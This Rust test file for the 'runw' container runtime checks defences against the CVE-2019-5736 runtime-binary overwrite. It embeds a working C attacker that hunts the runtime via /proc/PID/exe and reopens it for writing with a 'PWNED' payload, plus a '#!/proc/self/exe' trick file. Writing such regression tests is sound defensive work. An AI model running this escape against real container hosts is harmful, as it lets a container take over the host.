//! CVE-2019-5736 class: a process in the container opens the runtime's own binary through
//! `/proc/<pid>/exe` of a runtime process it can see, keeps an O_PATH descriptor, and once
//! the runtime exits (no more ETXTBSY) reopens it for writing to overwrite the host binary.
//!
//! runw re-executes itself from a read-only detached bind mount for create/run/exec
//! (src/seal.rs), so every such write must fail with EROFS. The test uses a private copy of
//! runw (so a successful attack damages nothing else), builds a static C attacker, runs it as
//! the init of a container without a pid namespace and with all capabilities (so it sees and
//! may inspect the host's `runw exec` process), and proves the attacker really found and
//! opened the runw binary, never managed to open it for writing, and that the copy is
//! unchanged.

mod common;

use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::Runtime;
use serde_json::json;

const ATTACKER_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* usage: attacker DEV INO SECONDS
 * Finds a process whose /proc/PID/exe is the file (DEV, INO), opens it O_PATH and keeps
 * trying to reopen it O_WRONLY through /proc/self/fd until the target has been gone for a
 * second. Prints FOUND, then WRITE_OK (attack succeeded) or RESULT with the errno counts. */
int main(int argc, char **argv) {
    if (argc != 4) return 100;
    dev_t dev = strtoull(argv[1], NULL, 10);
    ino_t ino = strtoull(argv[2], NULL, 10);
    time_t end = time(NULL) + atoi(argv[3]);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("READY\n");
    int fd = -1, pid = -1;
    while (fd < 0 && time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d) { printf("NOPROC errno=%d\n", errno); return 4; }
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            int p = atoi(e->d_name);
            if (p <= 0 || p == getpid()) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", p);
            struct stat st;
            if (stat(path, &st) != 0) continue;
            if (st.st_dev != dev || st.st_ino != ino) continue;
            fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) { printf("OPENFAIL pid=%d errno=%d\n", p, errno); continue; }
            char link[4096] = {0};
            if (readlink(path, link, sizeof link - 1) < 0) strcpy(link, "?");
            pid = p;
            printf("FOUND pid=%d exe=%s\n", p, link);
            break;
        }
        closedir(d);
    }
    if (fd < 0) { printf("NOTFOUND\n"); return 2; }
    char self[64], proc[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    snprintf(proc, sizeof proc, "/proc/%d", pid);
    long tries = 0, erofs = 0, etxtbsy = 0, other = 0, after_exit = 0;
    int last = 0;
    struct timespec gone = {0, 0}, now;
    for (;;) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        tries++;
        if (w >= 0) {
            const char *m = "#!/bin/sh\necho PWNED\n";
            ssize_t n = write(w, m, strlen(m));
            close(w);
            printf("WRITE_OK tries=%ld wrote=%zd\n", tries, n);
            return 3;
        }
        last = errno;
        if (errno == EROFS) erofs++;
        else if (errno == ETXTBSY) etxtbsy++;
        else { other++; if (other < 5) printf("ERRNO %d\n", errno); }
        struct stat st;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (gone.tv_sec == 0 && stat(proc, &st) != 0) gone = now;
        if (gone.tv_sec != 0) {
            after_exit++;
            if (now.tv_sec - gone.tv_sec >= 1 && after_exit > 100) break;
        }
        if (time(NULL) >= end) break;
        usleep(500);
    }
    printf("RESULT tries=%ld erofs=%ld etxtbsy=%ld other=%ld after_exit=%ld last_errno=%d\n",
           tries, erofs, etxtbsy, other, after_exit, last);
    return 0;
}
"##;

/// The host's bounding set, in number order (this machine lacks CAP_SYS_RESOURCE, and no
/// container can get more than the host has).
fn host_capabilities() -> Vec<String> {
    let mut bounding: Vec<_> = caps::read(None, caps::CapSet::Bounding)
        .unwrap()
        .into_iter()
        .collect();
    bounding.sort_by_key(|cap| cap.index());
    bounding.iter().map(ToString::to_string).collect()
}

fn compile_attacker(dir: &Path, out: &Path) {
    let src = dir.join("attacker.c");
    std::fs::write(&src, ATTACKER_C).unwrap();
    let status = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(out)
        .arg(&src)
        .status()
        .expect("gcc is needed to build the attacker (hack/setup.sh installs it)");
    assert!(
        status.success(),
        "gcc -static failed (libc6-dev installed?)"
    );
}

fn wait_for_line(path: &Path, prefix: &str, timeout: Duration) -> Option<String> {
    let deadline = Instant::now() + timeout;
    loop {
        let text = std::fs::read_to_string(path).unwrap_or_default();
        if let Some(line) = text.lines().find(|l| l.starts_with(prefix)) {
            return Some(line.to_string());
        }
        if Instant::now() > deadline {
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn container_cannot_overwrite_the_runw_binary() {
    require_root!();
    let work = tempfile::tempdir().unwrap();
    let copy = work.path().join("runw-cve-copy");
    std::fs::copy(common::RUNW, &copy).unwrap();
    let original = std::fs::read(&copy).unwrap();
    let meta = std::fs::metadata(&copy).unwrap();

    // Every runtime command of this test runs the copy.
    let rt = Runtime::with_bin(&copy);
    let id = rt.id("cve");
    let mut bundle = rt.bundle(&id, &["true"]);
    compile_attacker(work.path(), &bundle.rootfs().join("attacker"));
    let (dev, ino) = (meta.dev().to_string(), meta.ino().to_string());
    bundle.edit(|c| {
        c["process"]["args"] = json!(["/attacker", dev, ino, "20"]);
        // The container keeps its own pid namespace (as in the CVE: the attacker sees only
        // the processes inside it) but holds every capability the host has.
        let caps = json!(host_capabilities());
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set] = caps.clone();
        }
    });
    // The classic trick: `runw exec ID /evil` where /evil starts with `#!/proc/self/exe`.
    // runw's process in the container execs /evil, the kernel resolves the interpreter to
    // that process's own binary, so the runw binary itself runs inside the container.
    let evil = bundle.rootfs().join("evil");
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&evil, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    let started = rt.run_detached(&id, &bundle);
    let log = started.stdout_path.clone();
    assert!(
        wait_for_line(&log, "READY", Duration::from_secs(10)).is_some(),
        "attacker did not start: {:?}",
        std::fs::read_to_string(&log)
    );
    // Only sealed commands (create/run/exec) may run from the copy while the attacker
    // watches. Retry the exec until the attacker has caught a runw process.
    let mut execs = Vec::new();
    let mut found = None;
    for _ in 0..30 {
        execs.push(rt.run(&["exec", &id, "/evil"]));
        found = wait_for_line(&log, "FOUND", Duration::from_millis(100));
        if found.is_some() || wait_for_line(&log, "NOTFOUND", Duration::ZERO).is_some() {
            break;
        }
    }
    let result = wait_for_line(&log, "RESULT", Duration::from_secs(15))
        .or_else(|| wait_for_line(&log, "WRITE_OK", Duration::from_secs(1)));
    let output = std::fs::read_to_string(&log).unwrap_or_default();
    // The last exec returned (whatever the attacker's /evil did with it): nothing hangs.
    let last = execs.pop().unwrap();
    assert!(!last.timed_out, "{last}");

    let unchanged = std::fs::read(&copy).unwrap() == original;
    assert!(
        !output.contains("WRITE_OK"),
        "the container opened the runw binary for writing:\n{output}"
    );
    assert!(unchanged, "the runw binary was modified:\n{output}");
    let found = found.unwrap_or_else(|| {
        panic!("the attacker never found a runw process (test proves nothing):\n{output}")
    });
    eprintln!("attacker: {found}\n{output}");
    let result = result.unwrap_or_else(|| panic!("attacker did not finish:\n{output}"));
    // Every attempt failed, and after the runw process exited (when ETXTBSY no longer
    // applies) they failed with EROFS: the read-only mount is what protects the binary.
    let field = |name: &str| -> i64 {
        result
            .split_whitespace()
            .find_map(|kv| kv.strip_prefix(&format!("{name}=")))
            .and_then(|v| v.parse().ok())
            .unwrap_or(-1)
    };
    assert!(field("tries") > 0, "{result}");
    assert!(field("after_exit") > 0, "target never exited: {result}");
    assert_eq!(field("other"), 0, "unexpected errors: {output}");
    assert_eq!(
        field("last_errno"),
        libc::EROFS as i64,
        "after runw exited, the write should fail with EROFS: {result}"
    );
    assert!(field("erofs") > 0, "{result}");

    rt.wait_status(&id, "stopped", Duration::from_secs(10));
    rt.ok(&["delete", &id]);
    rt.assert_clean(&id);
    assert_eq!(std::fs::read(&copy).unwrap(), original);
}

/// The runw processes that enter a container run from a read-only mount; the plain
/// state-reading commands don't need to.
#[test]
fn sealed_commands_run_from_a_read_only_mount() {
    require_root!();
    let rt = Runtime::runw();
    let id = rt.id("sealed");
    // The container's init is a shell waiting on `sleep`; the `runw exec` waiting for its
    // process is inspected from the host.
    let bundle = rt.bundle(&id, &["sleep", "600"]);
    rt.run_detached(&id, &bundle);
    let exec = rt.spawn(&["exec", &id, "sleep", "3"]);
    let pid = exec.pid();
    // runw re-execs itself from the sealed copy first: wait for it (bounded) rather than
    // sleep a guessed time.
    use nix::sys::statvfs::{statvfs, FsFlags};
    let exe = format!("/proc/{pid}/exe");
    let read_only = || statvfs(exe.as_str()).is_ok_and(|s| s.flags().contains(FsFlags::ST_RDONLY));
    let sealed = common::wait_for(Duration::from_secs(10), read_only);
    let target = std::fs::read_link(&exe).unwrap_or_default();
    assert!(sealed, "runw exec runs from a writable mount ({target:?})");
    // The binary the tests run is on a writable file system: the read-only view is runw's.
    assert!(!statvfs(common::RUNW)
        .unwrap()
        .flags()
        .contains(FsFlags::ST_RDONLY));
    let err = std::fs::OpenOptions::new()
        .write(true)
        .open(&exe)
        .expect_err("runw exec's binary opened for writing");
    assert!(
        [Some(libc::EROFS), Some(libc::ETXTBSY)].contains(&err.raw_os_error()),
        "{target:?}: {err}"
    );
    let out = exec.wait(common::TIMEOUT);
    assert_eq!(out.code, 0, "{out}");
}

/// Control: the same attacker does overwrite an executable that is not protected (the
/// container's own busybox on a writable rootfs), so the test above can fail.
#[test]
fn attacker_overwrites_an_unprotected_binary() {
    require_root!();
    let work = tempfile::tempdir().unwrap();
    let rt = Runtime::runw();
    let id = rt.id("cve-control");
    let mut bundle = rt.bundle(&id, &["true"]);
    compile_attacker(work.path(), &bundle.rootfs().join("attacker"));
    let busybox = bundle.rootfs().join("bin/busybox");
    let meta = std::fs::metadata(&busybox).unwrap();
    let (dev, ino) = (meta.dev().to_string(), meta.ino().to_string());
    bundle.edit(|c| {
        c["process"]["args"] = json!(["/attacker", dev, ino, "20"]);
        c["root"]["readonly"] = json!(false);
        let caps = json!(host_capabilities());
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set] = caps.clone();
        }
    });
    let started = rt.run_detached(&id, &bundle);
    let log = started.stdout_path.clone();
    assert!(wait_for_line(&log, "READY", Duration::from_secs(10)).is_some());
    rt.ok(&["exec", &id, "sleep", "1"]);
    let done = wait_for_line(&log, "WRITE_OK", Duration::from_secs(15));
    let output = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        done.is_some(),
        "the attacker failed against an unprotected binary:\n{output}"
    );
    assert!(std::fs::read(&busybox)
        .unwrap()
        .starts_with(b"#!/bin/sh\necho PWNED"));
}
